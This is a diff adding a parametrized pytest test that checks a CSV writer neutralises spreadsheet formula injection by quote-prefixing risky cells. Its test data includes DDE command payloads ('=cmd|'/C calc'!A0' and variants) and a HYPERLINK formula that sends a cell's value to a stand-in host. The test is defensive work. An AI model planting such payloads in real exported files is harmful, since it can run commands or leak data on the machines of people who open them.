@@ -42,6 +42,36 @@ def test_what_is_written_is_read_back(cell: str) -> None:
     assert cells_of("".join(lines).encode()) == rows
 
 
+@pytest.mark.parametrize(
+    ("cell", "marked"),
+    [
+        ("=1+1", True),
+        ('=HYPERLINK("http://a.example/?"&A1)', True),
+        ("\t=cmd|'/C calc'!A0", True),
+        ("@SUM(1)", True),
+        ("+cmd|'/C calc'!A0", True),
+        ("-2+3+cmd|'/C calc'!A0", True),
+        ("'=1", True),
+        ("''=1", True),
+        ("-", False),
+        ("-1975", False),
+        ("+1 (617) 555-0168", False),
+        ("'Ann'", False),
+        ("'74", False),
+        ("Ann = 1", False),
+    ],
+)
+def test_no_cell_is_a_formula_and_all_are_read_back(
+    cell: str,
+    marked: bool,  # noqa: FBT001 - a parameter
+) -> None:
+    lines = [*csv_lines([["doc_id", "names"], ["n1", cell]])]
+    assert lines[1].removeprefix("n1,").removeprefix('"').startswith("'") == (
+        marked or cell.startswith("'")
+    )
+    assert cells_of("".join(lines).encode())[1] == ["n1", cell]
+
+
 def test_a_cell_may_quote_a_page() -> None:
     assert cells_of(b"age\n" + b"x" * 200_000) == [["age"], ["x" * 200_000]]
 
